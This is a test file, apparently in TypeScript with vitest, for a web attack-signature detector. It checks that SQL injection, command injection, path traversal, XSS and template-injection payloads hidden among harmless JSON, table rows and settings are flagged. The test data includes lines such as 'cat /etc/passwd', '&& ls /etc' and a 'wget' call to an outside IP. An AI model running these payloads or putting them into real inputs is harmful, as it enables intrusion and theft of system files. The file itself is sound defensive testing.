import { expect, test } from 'vitest';
import { findSignatures } from '../../src/attacks/find-signatures.ts';
import { PieceBudget } from '../../src/attacks/pieces/piece-budget.ts';
import { pieceReadings } from '../../src/attacks/pieces/piece-readings.ts';
import { asItCame } from '../../src/attacks/readings/readings.ts';
import type { HttpRequest } from '../../src/attacks/request/http-request.ts';
import { leafAt } from '../../src/attacks/request/leaf/leaf.ts';
import { Shortlists } from '../../src/attacks/shortlists.ts';
import { signatures } from '../../src/attacks/signatures/registry.gen.ts';
import { evasion as manual } from './evasions/transformations/manual.ts';

const EMPTY: HttpRequest = { method: 'POST', path: '/', query: '', headers: {}, contentType: '', body: '' };
const HIDDEN = "harmless words of a note; 1' union select password from users-- and more words of it";

const WORDS = 'hello you all my good old friends of the sea';

function report(document: unknown) {
  return findSignatures({ ...EMPTY, contentType: 'application/json', body: JSON.stringify(document) });
}

function telling(count: number): readonly string[] {
  return Array.from({ length: count }, (_, at) => `the note ${at} says (that) <b>${at}</b> words * are "${at}" of it`);
}

test('among many texts that hold nothing an attack among words is found, wherever it stands', () => {
  const plain = Array.from({ length: 300 }, (_, at) => ({
    id: at,
    name: `item ${at}`,
    address: `https://example.org/${at}`,
  }));
  for (const document of [
    [HIDDEN, ...plain],
    [...plain, HIDDEN],
    [...plain.slice(0, 150), HIDDEN, ...plain.slice(150)],
  ]) {
    const { matches, caps } = report(document);
    expect(matches.map(({ type }) => type)).toEqual(['sql_injection']);
    expect(caps).not.toContain('pieces');
  }
});

test('a request with more pieces than are judged says so', () => {
  expect(report(telling(20)).caps).toEqual([]);
  const different = telling(400).map((text, at) => `${text} ${String.fromCharCode(0x400 + at).repeat(4)}`);
  expect(report(different).caps).toContain('pieces');
});

test('cells of a long table take the place of no line among them', () => {
  const rows = Array.from({ length: 800 }, (_, at) => `row ${at}|f('${at}')|x`);
  rows.splice(600, 0, '; id');
  const whole = asItCame(leafAt('body.text', 'text', 'value', rows.join('\n')));
  const budget = new PieceBudget([whole]);
  budget.pass();
  const judged = [...pieceReadings(whole, new Shortlists(signatures), budget, 1, new Set())];
  expect(judged.map(({ reading }) => reading.text)).toContain('; id');
});

test('of a long text no more is judged in pieces than its share, with the words beside each counted in', () => {
  const text = Array.from({ length: 60 }, (_, at) => `so ('b${at}') = ${'[c] = '.repeat(60)} and so the note ends`);
  const whole = asItCame(leafAt('body', 'text', 'whole', text.join('\n')));
  const budget = new PieceBudget([whole]);
  budget.pass();
  const shortlists = new Shortlists(signatures);
  const judged = [...pieceReadings(whole, shortlists, budget, 1, new Set())];
  expect(judged.length).toBeGreaterThan(10);
  const read = judged.reduce((sum, { reading }) => sum + reading.text.length * shortlists.of(reading).length, 0);
  expect(read).toBeLessThan(160 * 1024);
  expect(budget.exceeded).toBe(true);
});

test('none of many texts can take the share of the others', () => {
  const found = Array.from({ length: 10 }, (_, at) => {
    const document: string[] = [...telling(300)];
    document.splice(at * 30, 0, ...Array.from({ length: 8 }, (_each, of) => `${HIDDEN} ${of}`));
    return report(document).matches.some(({ type }) => type === 'sql_injection');
  });
  expect(found).not.toContain(false);
});

test.each([';id;', '`id`', '| id', '&& ls /etc', '{{7*7}}', "*()|&'"])(
  'nothing is quoted among numbers: %s',
  (attack) => {
    for (const text of [
      `2024-05-01 12:30 99.5 ${attack}`,
      `${attack} 17.3 2024-06-02`,
      `1 2 ${attack} 3 4`,
      `6f1b2c3d-1111-4222-8333-abcdefabcdef ${attack}`,
    ]) {
      expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
    }
  },
);

test('a piece that only a reading without entities tells is looked at there: the others were judged before', () => {
  const attack = manual.forms.both?.('alert&lpar;1&rpar;');
  expect(report({ value: attack, other: 'x' }).matches.map(({ type }) => type)).toContain('xss');
});

test.each(['&& uname -a', '|| id', '&& ls /etc'])('what one place excuses another does not: %s', (attack) => {
  const source = `const ok = isReady\n    ${attack}\n`;
  expect(report({ value: `${source}${WORDS}`, other: 'x' }).matches).toEqual([]);
  expect(report({ value: `${source}${WORDS}\n${attack}\n${WORDS}`, other: 'x' }).matches).not.toEqual([]);
});

test('a parameter that reaches a machine and then a file is one among lines and cells, what a script sets is none', () => {
  const row = (value: string) => report({ value: `id;name;city\n1;Ann;Rome\n2;${value};Oslo`, other: 'x' }).matches;
  expect(row('host=127.0.0.1 && ls /etc')).not.toEqual([]);
  expect(row('HOST=127.0.0.1 && node a.js')).toEqual([]);
  expect(row('export HOST=127.0.0.1 && npm start')).toEqual([]);
});

test.each(["system('sleep 5')", 'exec("sleep 5")', '%0A/usr/bin/id'])(
  'the end of a sentence is no part of it: %s',
  (attack) => {
    expect(
      report({ value: `I have tried what you told me: ${attack}. Please let me know.`, other: 'x' }).matches,
    ).not.toEqual([]);
  },
);

test.each([
  '2024-05-01 12:30 id',
  '6f1b2c3d-1111-4222-8333-abcdefabcdef id; done',
  '12 14 (a) | b 16 18',
  '10:00 11:30 Tom & Jerry; cat food 3 4',
])('what is harmless among numbers stays so: %s', (text) => {
  expect(report({ value: text, other: 'x' }).matches).toEqual([]);
});

test.each([
  'host = one\nname = ;cat /etc/passwd\nport = 80\nlevel = 2',
  'PORT=80\nNAME=a;cat /etc/passwd\nLEVEL=2\nNODE=3',
  'BEGIN:VEVENT\nSUMMARY:Meeting\nDESCRIPTION:|wget http://203.0.113.9/a\nEND:VEVENT',
  'file = ../../../../etc/passwd\nport = 80',
  "host = db1\nname = ' ; /bin/sleep 31 ;\nport = 80",
  "host = db1\nname = ' && this.password.match(/.*/)//\nport = 80",
])('a setting whose value breaks out or climbs excuses nothing: %j', (text) => {
  expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
});

test.each([
  'PATH=/usr/local/bin:$PATH; export PATH\nLANG=C\n',
  'key: a; b\nother: c & d\nthird = x | y\n',
  '; the name of the host\nname = ; none yet\n',
  'a = b;\nc = d;\nif (a) { e = f; }\n',
])('settings are harmless: %j', (text) => {
  expect(report({ value: text, other: 'x' }).matches).toEqual([]);
});

test.each([';id the', '/etc/passwd `x`', '; cat /etc/passwd ```', '%00/etc/shadow%00 and so'])(
  'what a value begins with is judged, whatever follows: %s',
  (text) => {
    expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
  },
);

test.each([
  '$ne: is an operator',
  '*bold* and so',
  '/help me',
  ';-) good',
  '& more',
  '(a) or (b)',
  '/docs/setup.md says',
])('what a harmless text begins with stays so: %s', (text) => {
  expect(report({ value: text, other: 'x' }).matches).toEqual([]);
});

test('how sure a finding is has two digits, whatever was taken from it', () => {
  const { matches } = findSignatures({ ...EMPTY, query: `q=${encodeURIComponent('<note><body>;id</body></note>')}` });
  expect(matches.map(({ confidence }) => confidence)).toEqual([0.65]);
});
